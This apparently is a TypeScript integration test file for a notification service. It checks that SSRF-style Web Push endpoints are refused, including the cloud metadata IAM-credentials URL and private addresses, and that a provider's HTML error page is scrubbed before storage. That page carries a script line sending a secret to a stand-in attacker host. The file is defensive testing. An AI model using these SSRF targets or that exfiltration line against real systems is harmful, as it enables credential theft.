// Attacks on what Herald sends out, through the running stack: Web Push endpoints that point inside the network
// (loopback, the cloud metadata address, private ranges, a name that resolves to loopback), a provider answering a
// page of HTML with secrets in it, and one order's event that Temporal keeps refusing, which must not hold up the
// events of every other order behind it.
import { Client, Connection } from '@temporalio/client';
import { connectTemporal } from '../lib/temporal-connection';
import { createIntake } from '../api/intake';
import { freePort } from '../dev/embedded';
import { orderWorkflowId } from '../domain';
import { REASON_MAX_CHARS } from '../lib/short-reason';
import { logger } from './support/logger';
import { androidToken, eventually, iosToken, orderEvent, postSettledOrderEvent, useHarness } from './support/harness';

jest.setTimeout(300_000);

/** Temporal refuses any signal to a run that already took this many (history.maximumSignalsPerExecution): a real, per-workflow refusal. */
const SIGNAL_LIMIT = 3;

const h = useHarness({
  // `localhost` is allowed by configuration, without the test-only opt-out for private addresses.
  env: { HERALD_WEBPUSH_ALLOWED_HOSTS: 'localhost', HERALD_WEBPUSH_ALLOW_PRIVATE: 'false' },
  temporalDynamicConfig: { 'history.maximumSignalsPerExecution': String(SIGNAL_LIMIT) },
});

let temporal: Connection;
beforeAll(async () => {
  temporal = await connectTemporal(h.stack.temporal);
});
afterAll(async () => {
  await temporal?.close();
});

async function customer(customerId: string, devices: Array<Record<string, unknown>> = []): Promise<void> {
  expect((await h.api('PUT', `/v1/customers/${customerId}`, { name: 'Ada', locale: 'en-GB', timeZone: 'Europe/London' })).status).toBe(201);
  for (const device of devices) expect((await h.api('POST', `/v1/customers/${customerId}/devices`, device)).status).toBe(201);
}

async function metricsText(): Promise<string> {
  return (await fetch(`${h.stack.apiUrl}/metrics`)).text();
}

function metricValue(text: string, series: string): number | undefined {
  const line = text.split('\n').find((l) => l.startsWith(`${series} `));
  return line === undefined ? undefined : Number(line.slice(series.length + 1));
}

describe('Web Push endpoints', () => {
  test('an endpoint off the allowed push services, or on a private address, is refused at registration with 400 naming the field', async () => {
    await customer('cust-ssrf');
    const keys = h.pushService.createSubscription().keys;
    const attempts: Array<[string, RegExp]> = [
      ['https://127.0.0.1/push/x', /^is a private address$/],
      ['https://169.254.169.254/latest/meta-data/iam/security-credentials/', /^is a private address$/],
      ['https://10.0.0.1/push/x', /^is a private address$/],
      ['https://evil.example/push/x', /^is not an allowed push service$/],
      // Refused by the schema already (no IPv6 literals, https only): kept so they stay refused.
      ['https://[::1]/push/x', /https URL/],
      ['http://localhost/push/x', /https URL/],
    ];
    for (const [endpoint, reason] of attempts) {
      const res = await h.api('POST', '/v1/customers/cust-ssrf/devices', { deviceId: `ssrf-${attempts.findIndex(([e]) => e === endpoint)}`, platform: 'web', subscription: { endpoint, keys } });
      expect({ endpoint, status: res.status, code: res.body?.error?.code }).toEqual({ endpoint, status: 400, code: 'validation_failed' });
      expect(res.body.error.fields).toContainEqual({ field: 'subscription.endpoint', reason: expect.stringMatching(reason) });
      expect(res.body.error.fields.filter((f: { field: string }) => f.field !== 'subscription.endpoint')).toEqual([]);
    }
    expect(await h.db.device.count({ where: { customerId: 'cust-ssrf' } })).toBe(0);
    expect(h.pushService.requests).toHaveLength(0);
  });

  test('an allowed name that resolves to loopback is refused at connect time: nothing reaches the push service and the device is retired', async () => {
    const sub = h.pushService.createSubscription({ applicationServerKey: h.vapidPublicKey });
    const endpoint = `https://localhost:${new URL(h.pushService.url).port}/push/${sub.id}`;
    await customer('cust-rebind', [{ deviceId: 'rebind-browser', platform: 'web', subscription: { endpoint, keys: sub.keys } }]);
    h.pushService.reset();

    expect((await h.api('POST', '/v1/order-events', orderEvent('ord-rebind', 'cust-rebind', 'shipped'))).status).toBe(202);

    const device = await eventually(async () => {
      const d = await h.db.device.findUniqueOrThrow({ where: { customerId_deviceId: { customerId: 'cust-rebind', deviceId: 'rebind-browser' } } });
      expect(d).toMatchObject({ active: false, invalidatedReason: 'webpush: ENDPOINT_PRIVATE_ADDRESS' });
      return d;
    }, 60_000);
    const attempts = await h.db.deliveryAttempt.findMany({ where: { deviceId: device.id } });
    // A dead endpoint, not a retry loop: one attempt.
    expect(attempts.map((a) => [a.status, a.errorCode, a.retryable])).toEqual([['failed', 'ENDPOINT_PRIVATE_ADDRESS', false]]);
    expect(attempts[0]!.errorMessage).toMatch(/^web push endpoint localhost resolves to a private address/);
    expect(h.pushService.requests).toHaveLength(0);
  });
});

test("a provider answering a huge HTML page with secrets in it: only a short reason is stored, in the database and in Temporal's history", async () => {
  const secret = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc';
  const token = androidToken('html-body');
  await customer('cust-html', [{ deviceId: 'html-pixel', platform: 'android', token }]);
  h.fcm.failNext('INVALID_ARGUMENT', {
    token,
    htmlBody: `<html><head><script>fetch("https://steal.example/?k=${secret}")</script></head><body>${`<pre>Authorization: Bearer ${secret}</pre>\u0000`.repeat(20_000)}</body></html>`,
  });

  const event = orderEvent('ord-html', 'cust-html', 'shipped');
  expect((await h.api('POST', '/v1/order-events', event)).status).toBe(202);

  const notificationId = `${event.eventId}/push`;
  const [attempt] = await eventually(async () => {
    const failed = await h.db.deliveryAttempt.findMany({ where: { notificationId, status: 'failed' } });
    expect(failed).toHaveLength(1);
    return failed;
  }, 60_000);
  expect([attempt!.errorCode, attempt!.errorMessage]).toEqual(['INVALID_ARGUMENT', 'FCM answered 400 INVALID_ARGUMENT']);
  // Refused outright (400): dead-lettered at once.
  const letter = await eventually(async () => {
    const found = await h.db.deadLetter.findFirst({ where: { notificationId } });
    expect(found).not.toBeNull();
    return found!;
  }, 60_000);
  const notification = await h.db.notification.findUniqueOrThrow({ where: { id: notificationId } });
  const stored = [letter.lastError, JSON.stringify(letter.errors), notification.failureReason ?? ''];
  for (const text of stored) {
    expect(text).not.toContain(secret);
    expect(text).not.toMatch(/<|script|Bearer/);
  }
  expect(letter.lastError.length).toBeLessThanOrEqual(2 * REASON_MAX_CHARS);

  // What the workflows' histories keep of it (the activity failures): no page either.
  const client = new Client({ connection: temporal });
  const runs = [];
  for await (const run of client.workflow.list()) runs.push(run);
  expect(runs.some((r) => r.workflowId === orderWorkflowId('ord-html'))).toBe(true);
  // Payloads are bytes (base64 in the history's JSON): read them as text, so a secret inside one would show too.
  const asText = (key: string, value: unknown) => (key === 'data' && typeof value === 'string' ? Buffer.from(value, 'base64').toString('utf8') : value);
  for (const run of runs) {
    const history = JSON.stringify(await client.workflow.getHandle(run.workflowId, run.runId).fetchHistory(), asText);
    expect(history).toContain('cust-');
    expect(history).not.toContain(secret);
  }
});

test('one order whose workflow keeps refusing its event holds up neither other orders nor itself once the cause is gone', async () => {
  const phones = { stuck: iosToken('stall-stuck'), b: iosToken('stall-b'), c: iosToken('stall-c') };
  await customer('cust-stall-a', [{ deviceId: 'stall-a-phone', platform: 'ios', token: phones.stuck }]);
  await customer('cust-stall-b', [{ deviceId: 'stall-b-phone', platform: 'ios', token: phones.b }]);
  await customer('cust-stall-c', [{ deviceId: 'stall-c-phone', platform: 'ios', token: phones.c }]);

  /** Posts an event; answers whether intake signalled it before answering (the relay owes it otherwise). */
  const post = (event: ReturnType<typeof orderEvent>) => postSettledOrderEvent(h, event);


  // The stuck order's run takes SIGNAL_LIMIT events; Temporal refuses it every signal after that.
  for (const status of ['confirmed', 'packed', 'shipped']) expect(await post(orderEvent('ord-stuck', 'cust-stall-a', status))).toBe(true);
  const refused = orderEvent('ord-stuck', 'cust-stall-a', 'out_for_delivery');
  expect(await post(refused)).toBe(false);

  // Events of other orders stored after it, and owed by the relay (an API that stored them could not reach Temporal).
  const unreachable = createIntake({ db: h.db, taskQueue: 'herald-orders', logger, temporal: new Client({ connection: Connection.lazy({ address: `127.0.0.1:${await freePort()}`, connectTimeout: 500 }) }) });
  for (const [orderId, customerId] of [['ord-free-b', 'cust-stall-b'], ['ord-free-c', 'cust-stall-c']]) {
    expect(await unreachable.accept({ ...orderEvent(orderId, customerId, 'shipped'), status: 'shipped', data: {} })).toMatchObject({ signalled: false });
  }

  // The relay goes past the refused event: the other orders are notified.
  await eventually(() => {
    expect(h.apns.requestsFor(phones.b).map((r) => (r.body as { status?: string }).status)).toEqual(['shipped']);
    expect(h.apns.requestsFor(phones.c).map((r) => (r.body as { status?: string }).status)).toEqual(['shipped']);
  }, 60_000);

  // A later event of the stuck order waits behind its refused one, even at intake.
  await eventually(async () => expect((await h.db.orderEvent.findUniqueOrThrow({ where: { eventId: refused.eventId } })).relayAttempts).toBeGreaterThan(0), 30_000);
  const behind = orderEvent('ord-stuck', 'cust-stall-a', 'delayed');
  // Neither the pool nor the relay takes it while the refused one is owed: it stays unsignalled, untried (checked below).
  expect((await h.api('POST', '/v1/order-events', behind)).status).toBe(202);

  // The refused event is retried with backoff, reported on /metrics, and the one behind it never jumped ahead.
  const stuck = await eventually(async () => {
    const row = await h.db.orderEvent.findUniqueOrThrow({ where: { eventId: refused.eventId } });
    expect(row.relayAttempts).toBeGreaterThanOrEqual(3);
    expect(metricValue(await metricsText(), 'herald_outbox_stuck_events{outbox="order_events"}')).toBe(1);
    return row;
  }, 90_000, 500);
  expect(stuck.signalledAt).toBeNull();
  expect(stuck.relayLastError).toMatch(/signal/i);
  expect(stuck.relayNextAttemptAt!.getTime()).toBeGreaterThan(stuck.receivedAt.getTime() + 2_000 + 2_000 + 4_000);
  const text = await metricsText();
  expect(metricValue(text, 'herald_outbox_relay_failures_total{outbox="order_events",reason="event"}')).toBeGreaterThanOrEqual(3);
  expect(metricValue(text, 'herald_outbox_oldest_pending_seconds{outbox="order_events"}')).toBeGreaterThan(5);
  expect(await h.db.orderEvent.findUniqueOrThrow({ where: { eventId: behind.eventId } })).toMatchObject({ signalledAt: null, relayAttempts: 0 });

  // The cause removed (an operator ends the run that is full): both go through, in their order, to a new run.
  await new Client({ connection: temporal }).workflow.getHandle(orderWorkflowId('ord-stuck')).terminate('signal limit reached (test)');
  const [first, second] = await eventually(async () => {
    const rows = await Promise.all([refused, behind].map((e) => h.db.orderEvent.findUniqueOrThrow({ where: { eventId: e.eventId } })));
    expect(rows.map((r) => r.signalledAt)).toEqual([expect.any(Date), expect.any(Date)]);
    return rows;
  }, 120_000, 500);
  expect(first!.signalledAt!.getTime()).toBeLessThanOrEqual(second!.signalledAt!.getTime());
  await eventually(() => expect(h.apns.requestsFor(phones.stuck).map((r) => (r.body as { status?: string }).status)).toContain('out_for_delivery'), 60_000);
  await eventually(async () => expect(metricValue(await metricsText(), 'herald_outbox_stuck_events{outbox="order_events"}')).toBe(0), 30_000);
});
